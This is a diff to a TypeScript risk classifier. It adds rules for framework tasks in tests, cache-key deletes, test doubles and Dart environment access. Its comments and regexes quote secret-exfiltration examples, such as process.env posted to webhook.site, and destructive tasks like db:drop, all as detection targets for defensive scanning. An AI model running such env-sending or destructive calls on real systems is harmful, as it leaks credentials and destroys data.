@@ -383,9 +383,12 @@ function readCodeUnpinned(text: string, ctx: Ctx): Finding[] {
   // (cls-code19) A framework's task called from code is that task on its command line: Django's call_command('flush',
   // interactive=False) is manage.py flush, Rails' Rake::Task["db:drop"].invoke is rails db:drop, Laravel's
   // Artisan::call('migrate:fresh') is artisan migrate:fresh.
+  // (A task called inside a unit test, call_command("flush") in a TestCase, acts on the test database.)
   if (/call_command|Rake\.Task|Artisan\.call/.test(text)) {
+    const inTest = TEST_DEF.test(text);
     for (const g of text.slice(0, 8000).matchAll(/\bcall_command\(\s*["']([\w:-]+)["']([^)\n]{0,200})\)|\bRake\.Task\[\s*["']([\w:-]+)["']\s*\]\s*\.\s*(?:invoke|execute)\b|\bArtisan\.call\(\s*["']([\w:-]+)(?:\s[^"'\n]*)?["']/g)) {
-      if (g[1]) out.push(...ctx.inner(`python manage.py ${g[1]}${/interactive\s*=\s*False|no_?input\s*=\s*True/.test(g[2] ?? '') ? ' --noinput' : ''}`));
+      if (inTest) out.push(f('safe', `inside a unit test, a framework task on its own test database (${snippet(g[0], 50)})`));
+      else if (g[1]) out.push(...ctx.inner(`python manage.py ${g[1]}${/interactive\s*=\s*False|no_?input\s*=\s*True/.test(g[2] ?? '') ? ' --noinput' : ''}`));
       else if (g[3]) out.push(...ctx.inner(`bin/rails ${g[3]}`));
       else if (g[4]) out.push(...ctx.inner(`php artisan ${g[4]} --force`));
     }
@@ -657,6 +660,12 @@ function readCodeUnpinned(text: string, ctx: Ctx): Finding[] {
     if (/^(?:raise_for_status|EnsureSuccessStatusCode|ensure_success_status_code|error_for_status)$/.test(c.name)) continue;
     // (cls-code17) The enqueue call itself (perform_async, apply_async, Oban.insert, Job.set(wait: …)) was read with its job.
     if (queued && ENQUEUE_CALL.test(c.name) && (!/^(?:insert|insert_all|Insert|InsertTx|set|send|sendAfter|trigger|push|push_bulk)$/.test(c.name) || QUEUE_RECEIVER.test(c.receiver))) continue;
+    // (cls-code19) One cache key deleted through a framework cache (Rails.cache.delete("homepage"), cache.delete('k'),
+    // Cache::forget('k'), caches.default.delete(key)): it is rebuilt on the next read (LABELS: one rebuildable cache key).
+    if (/^(?:delete|del|forget|invalidate|evict|remove|Remove|RemoveAsync|unlink|delete_many)$/.test(c.name) && /(?:^|\.)(?:cache|Cache|caches|cache_?client)(?:\.default)?\.$/.test(c.receiver) && /^\s*(?:["'`][^"'`*\n]{1,200}["'`]|:[a-z_]\w*)\s*$/.test(c.args)) {
+      out.push(f('reversible', `deletes a cache key that is rebuilt (${snippet(`${c.rawRecv.trim()}${c.name}(${c.args})`, 50)})`));
+      continue;
+    }
     // An in-memory collection bound to a name (const memo = new Map(); memo.clear(), seen = set(); seen.clear()): nothing lasting.
     if (/^(?:clear|Clear|delete|remove|Remove|removeAll|RemoveAll|drain|truncate|pop|popitem|discard)$/.test(c.name) && /^(?:Map|Set|WeakMap|WeakSet|HashMap|HashSet|ArrayList|LinkedList|List|Dictionary|ConcurrentHashMap|ConcurrentDictionary|LinkedHashMap|TreeMap|dict|set|list|deque|OrderedDict|defaultdict|Counter|Array|Vec|VecDeque|BTreeMap|StringBuilder|mutableMapOf|mutableListOf|mutableSetOf)\.$/.test(c.receiver)) {
       out.push(f('reversible', `changes an in-memory collection of this process (${snippet(`${c.rawRecv.trim()}${c.name}(${c.args})`, 50)})`));
@@ -669,7 +678,8 @@ function readCodeUnpinned(text: string, ctx: Ctx): Finding[] {
       // A function under test handed a double as its first argument (delete_bucket(mock_s3, 'prod-assets')) acts on the double.
       // (cls-code16) So is one handed a double in any place inside a test (purge('acme-prod-uploads', s3 as any)).
       const firstDouble = c.receiver === '' && (doubles.has(/^\s*([\w$]+)\s*,/.exec(c.args)?.[1] ?? '') || (TEST_DEF.test(text) && /,/.test(c.args) && c.args.split(',').some((a) => doubles.has(a.trim().replace(/\s+as\s+\w+$/, '')))));
-      if (doubles.has(root) || doubles.has(argOnly) || firstDouble || MOCK_RECEIVER.test(`${argOnly}.`) || doubleSpans.some(([a, b]) => c.at > a && c.at < b)) {
+      // (cls-code19: a double called by its own name, const rm = jest.fn(); rm('/var/lib/postgresql'), reaches nothing real.)
+      if ((c.receiver === '' && doubles.has(c.name)) || doubles.has(root) || doubles.has(argOnly) || firstDouble || MOCK_RECEIVER.test(`${argOnly}.`) || doubleSpans.some(([a, b]) => c.at > a && c.at < b)) {
         mockCalls++;
         if (doubles.has(root)) doubleSpans.push([c.at, c.at + c.rawRecv.length + c.name.length + c.args.length + 2]);
         continue;
@@ -1158,7 +1168,7 @@ function builderDeletes(code: string, mods: number, env: Env): Finding[] {
 // A print call: the name, then its parenthesis or (Ruby, Perl, PHP) a space and an argument — never a word that merely starts with "p".
 const ENV_LOOP = /\b(?:for|foreach)\b[^\n]{0,80}?(?:\bos\.Environ\(\s*\)|\bEnvironment\.GetEnvironmentVariables\(\s*\)|\bSystem\.getenv\(\s*\)|\bDeno\.env\.toObject\(\s*\)|\bos\.environ\b(?:\.items\(\s*\))?|\bprocess\.env\b(?!\s*[.[])|\bBun\.env\b(?!\s*[.[]))|\b(?:ENV|System\.getenv\(\s*\)|os\.environ)\s*\.\s*(?:each|forEach|each_pair)\b/;
 const PRINT_CALL = /\b(?:print|println|printf|puts|pp|p|console\.(?:log|info|error|warn|dir)|Console\.(?:Write|WriteLine|Error\.WriteLine)|echo|System\.out\.print\w*|fmt\.Print\w*|Write-(?:Output|Host)|process\.stdout\.write|sys\.stdout\.write|say|var_dump|print_r|logger?\.\w+|log\.\w+)(?:\s*\(|[ \t]+(?=[\w$"'`@:{[]))/;
-const ENV_REF = /\bENV\.(?:to_h|to_hash|inspect|each)\b|\bDeno\.env\.toObject\(\s*\)|\bBun\.env\b(?!\s*[.[])|\bSystem\.getenv\(\s*\)|\bos\.Environ\(\s*\)|\bEnvironment\.GetEnvironmentVariables\(\s*\)|\bEnvironment\.GetEnvironmentVariable\(\s*"([^"]+)"|process\.env(?:\.([A-Za-z_]\w*)|\[\s*['"]([^'"]+)['"]\s*\])?|os\.environ(?:\.get\(\s*['"]([^'"]+)['"]|\[\s*['"]([^'"]+)['"]\s*\])?|(?:os\.)?[gG]etenv\(\s*['"]([^'"]+)['"]|System\.getenv\(\s*"([^"]+)"|ENV(?:\.fetch\(\s*|\[\s*)['"]([^'"]+)['"]|\$ENV\{\s*['"]?(\w+)['"]?\s*\}|Deno\.env\.get\(\s*['"]([^'"]+)['"]|\$_ENV\[\s*['"]([^'"]+)['"]/g;
+const ENV_REF = /\bPlatform\.environment\b(?!\s*\[)|\bENV\.(?:to_h|to_hash|inspect|each)\b|\bDeno\.env\.toObject\(\s*\)|\bBun\.env\b(?!\s*[.[])|\bSystem\.getenv\(\s*\)|\bos\.Environ\(\s*\)|\bEnvironment\.GetEnvironmentVariables\(\s*\)|\bEnvironment\.GetEnvironmentVariable\(\s*"([^"]+)"|process\.env(?:\.([A-Za-z_]\w*)|\[\s*['"]([^'"]+)['"]\s*\])?|os\.environ(?:\.get\(\s*['"]([^'"]+)['"]|\[\s*['"]([^'"]+)['"]\s*\])?|(?:os\.)?[gG]etenv\(\s*['"]([^'"]+)['"]|System\.getenv\(\s*"([^"]+)"|ENV(?:\.fetch\(\s*|\[\s*)['"]([^'"]+)['"]|\$ENV\{\s*['"]?(\w+)['"]?\s*\}|Deno\.env\.get\(\s*['"]([^'"]+)['"]|\$_ENV\[\s*['"]([^'"]+)['"]/g;
 const SECRET_NAME = /TOKEN|SECRET|PASSWORD|PASSWD|PASS$|API_?KEY|PRIVATE_?KEY|CREDENTIAL|ACCESS_?KEY|AUTH|DATABASE_URL|DB_URL|DSN|CONNECTION_STRING|_KEY$/i;
 
 const AUTH_USE = /(?:authorization|x-api-key|api[-_]?key|private-token|x-auth-token|bearer|token|auth)\W{0,6}(?:["'`][^"'`]{0,20}["'`]\s*\+\s*|\$\{|\s*[:=,(]\s*|\s*[+%]\s*)[\s(]*$|headers\s*[:=][^)]*$|\bauth\s*=\s*\(?[^)]*$/i;
@@ -1168,7 +1178,7 @@ const AUTH_USE = /(?:authorization|x-api-key|api[-_]?key|private-token|x-auth-to
  * (cls-code14) The whole environment handed to a request to another host (requests.post(url, json=dict(os.environ)),
  * fetch(url, { body: JSON.stringify(process.env) })): every secret in it leaves, as a secrets file sent does.
  */
-const WHOLE_ENV = String.raw`(?:\bdict\(\s*os\.environ\s*\)|\bos\.environ\b(?!\s*[.[])|\bprocess\.env\b(?!\s*[.[])|\bENV\.to_h\b|\bSystem\.getenv\(\s*\)|\bos\.Environ\(\s*\)|\bgetenv\(\s*\)|\$_ENV\b(?!\s*\[)|\bDeno\.env\.toObject\(\s*\))`;
+const WHOLE_ENV = String.raw`(?:\bPlatform\.environment\b(?!\s*\[)|\bdict\(\s*os\.environ\s*\)|\bos\.environ\b(?!\s*[.[])|\bprocess\.env\b(?!\s*[.[])|\bENV\.to_h\b|\bSystem\.getenv\(\s*\)|\bos\.Environ\(\s*\)|\bgetenv\(\s*\)|\$_ENV\b(?!\s*\[)|\bDeno\.env\.toObject\(\s*\))`;
 const ENV_SENT = new RegExp(String.raw`\b(?:fetch|axios(?:\.post|\.put)?|requests\.(?:post|put)|httpx\.(?:post|put)|http\.(?:post|put|request)|got\.post|HTTParty\.post|PostAsync|PutAsync|urlopen|Invoke-RestMethod|\.post|\.put)\s*\(?[^;\n]{0,300}?["'\x60](https?:\/\/[^"'\x60\s/]+)[^;\n]{0,300}?${WHOLE_ENV}`);
 // cls-holes15: Node's request given an options object (https.request({ host: 'webhook.site', … }).end(JSON.stringify(process.env))).
 const ENV_SENT_OPTS = new RegExp(String.raw`(?:\b(?:https?|http2)|require\(\s*["'](?:node:)?https?["']\s*\))\.request\(\s*\{[^}]{0,300}?\bhost(?:name)?\s*:\s*["'\x60]([^"'\x60\s/]+)[^;\n]{0,400}?${WHOLE_ENV}`);
